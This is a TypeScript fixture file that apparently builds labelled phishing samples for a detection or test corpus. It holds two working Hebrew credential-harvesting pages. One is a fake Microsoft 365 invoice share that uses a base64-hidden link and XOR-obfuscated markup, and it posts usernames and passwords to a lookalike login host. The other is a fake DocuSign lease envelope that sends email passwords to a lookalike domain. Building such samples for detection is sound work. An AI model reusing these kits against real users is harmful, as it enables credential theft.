import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { FONT_HE, LOGO, b64, doc, xorB64, xorDecoderJs } from '../parts/yu-kit.js';

// Business-email lures aimed at the fintech's own staff and its merchants: a Hebrew "invoice shared
// with you" page whose Microsoft 365 kit lives on another host, and a DocuSign envelope lure.

export const entries: Entry[] = [
{
  id: 'yu-m365-hebrew-invoice-share-offsite-kit',
  label: 'phishing',
  kind: 'm365-credential-kit',
  url: 'https://www.hashmal-raz.co.il/wp-includes/css/dist/share/inv-2025-0412.html',
  body: doc({
    title: 'חשבונית מס 2025-0412 שותפה איתך',
    lang: 'he',
    css: `body{margin:0;background:#f3f2f1;font-family:'Segoe UI',${FONT_HE}}.card{max-width:440px;margin:70px auto;background:#fff;padding:30px;box-shadow:0 2px 6px rgba(0,0,0,.2);text-align:center}
.ic{width:64px;height:80px;margin:10px auto;background:#fff;border:2px solid #c43e1c;position:relative}.ic:after{content:"PDF";position:absolute;bottom:8px;left:0;right:0;color:#c43e1c;font-weight:700}
a.op{display:inline-block;background:#0078d4;color:#fff;padding:10px 28px;text-decoration:none;margin-top:14px}`,
    body: `<div class="card">${LOGO.microsoft}<p>ר.ח. אורית לוי שיתפה איתך קובץ</p><div class="ic"></div><b>חשבונית_מס_2025-0412.pdf</b><p style="color:#666;font-size:13px">גודל 212KB · מאובטח באמצעות OneDrive for Business</p>
<a class="op" id="op" href="#">פתח מסמך</a></div>
<script>document.getElementById("op").href=atob("${b64('https://login-microsoftonline.sharedocs-viewer.com/common/oauth2/v2.0/authorize?client_id=4765445b&doc=inv-2025-0412&lang=he')}");</script>`,
  }),
  routes: {
    'login-microsoftonline.sharedocs-viewer.com/common/oauth2/v2.0/authorize': htmlRoute(
      (() => {
        const inner = `<div class="box"><div>${LOGO.microsoft}</div><div id="e1"><h1>כניסה</h1><input id="em" type="email" placeholder="דואר אלקטרוני, טלפון או Skype"><p style="font-size:13px"><a href="#">אין לך חשבון? צור חשבון!</a></p><button id="n">הבא</button></div>
<div id="e2" style="display:none"><p id="who"></p><h1>הזן סיסמה</h1><input id="pw" type="password" placeholder="סיסמה"><p id="er" style="color:#e81123;font-size:13px"></p><button id="s">כניסה</button></div></div>`;
        return `<!DOCTYPE html><html lang="he" dir="rtl"><head><meta charset="utf-8"><title>כניסה לחשבון שלך</title>
<style>body{margin:0;background:#f2f2f2 linear-gradient(135deg,#e6eef7,#f7e9e6);font-family:'Segoe UI',Arial;min-height:100vh}.box{width:380px;margin:90px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:24px;font-weight:600}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;outline:0}button{float:left;background:#0067b8;color:#fff;border:0;padding:8px 32px;margin-top:20px}</style></head>
<body><div id="app"></div><script>${xorDecoderJs('x')}
document.getElementById("app").innerHTML=x("${xorB64(inner, 'o365')}","o365");
var em="",tries=0,q=new URLSearchParams(location.search);
document.getElementById("n").onclick=function(){em=document.getElementById("em").value;if(em.indexOf("@")<1)return;document.getElementById("who").textContent=em;document.getElementById("e1").style.display="none";document.getElementById("e2").style.display="block"};
document.getElementById("s").onclick=function(){tries++;fetch("/common/GetCredentialType",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({username:em,password:document.getElementById("pw").value,attempt:tries,doc:q.get("doc")})}).then(function(){
if(tries<2){document.getElementById("er").textContent="הסיסמה שלך שגויה. נסה שוב.";document.getElementById("pw").value=""}else{location.href="https://www.office.com/"}})};
</script></body></html>`;
      })(),
    ),
    'login-microsoftonline.sharedocs-viewer.com/common/GetCredentialType': jsonRoute({ IfExistsResult: 0 }),
  },
},
{
  id: 'yu-docusign-hebrew-contract-envelope',
  label: 'phishing',
  kind: 'esign-credential-kit',
  url: 'https://docusign-envelope.il-contracts.app/Signing/?ti=9f2c1e77a0',
  body: doc({
    title: 'DocuSign - חוזה שכירות לחתימה',
    lang: 'he',
    css: `body{margin:0;font-family:Arial,${FONT_HE};background:#f4f4f4}.bar{background:#1e1e1e;color:#fff;padding:12px 20px;font-weight:700}.bar span{color:#ffcc22}
.doc{max-width:620px;margin:24px auto;background:#fff;padding:26px;border:1px solid #ddd}.blur{filter:blur(4px);user-select:none;line-height:1.9;color:#444}
.ov{border:1px solid #ffcc22;background:#fffbe6;padding:18px;margin-top:-140px;position:relative}.ov input{width:100%;box-sizing:border-box;padding:10px;margin:5px 0;border:1px solid #bbb}
.ov button{background:#ffcc22;border:0;padding:11px 24px;font-weight:700}`,
    body: `<div class="bar">Docu<span>Sign</span></div>
<div class="doc"><h3>הסכם שכירות בלתי מוגנת - רח׳ ביאליק 14, רמת גן</h3>
<div class="blur">הואיל והמשכיר הינו הבעלים הרשום של הדירה… והואיל והשוכר מעוניין לשכור את הדירה לתקופה של 12 חודשים… דמי השכירות החודשיים יעמדו על סך 6,800 ש״ח… השוכר ימסור למשכיר ערבות בנקאית…<br>הואיל והמשכיר הינו הבעלים הרשום של הדירה… דמי השכירות ישולמו ביום הראשון של כל חודש…</div>
<div class="ov"><b>כדי לצפות במסמך ולחתום, אמתו את כתובת הדוא״ל שלכם</b>
<form method="post" action="https://docusign-envelope.il-contracts.app/Signing/verify.php"><input name="email" type="email" placeholder="כתובת דוא״ל" required><input name="password" type="password" placeholder="סיסמת הדוא״ל" required>
<input type="hidden" name="ti" value="9f2c1e77a0"><button>צפייה במסמך</button></form></div></div>`,
  }),
  routes: { 'docusign-envelope.il-contracts.app/Signing/verify.php': redirectRoute(302, 'https://www.docusign.com/') },
},
];
